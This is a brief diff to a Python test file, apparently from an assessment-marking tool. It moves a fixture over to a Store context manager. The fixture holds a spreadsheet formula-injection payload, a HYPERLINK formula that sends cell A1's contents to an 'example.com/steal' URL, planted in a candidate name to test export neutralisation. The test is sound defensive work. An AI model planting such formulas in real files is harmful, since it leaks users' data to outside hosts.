@@ -10,6 +10,7 @@ import pytest
 
 from csassess.batch.run import mark_batch
 from csassess.interop.export import neutralise
+from csassess.store import Store
 
 EVIL = '=HYPERLINK("http://example.com/steal?"&A1,"Click me")'
 
@@ -22,7 +23,8 @@ def evil_db(frozen, examples, tmp_path):
     script["candidate"]["name"] = EVIL
     path.write_text(json.dumps(script), encoding="utf-8")
     db = tmp_path / "r.db"
-    mark_batch(frozen, [examples], db, workers=0)
+    with Store(db) as store:
+        mark_batch(store, frozen, [examples], workers=0)
     return db
 
 
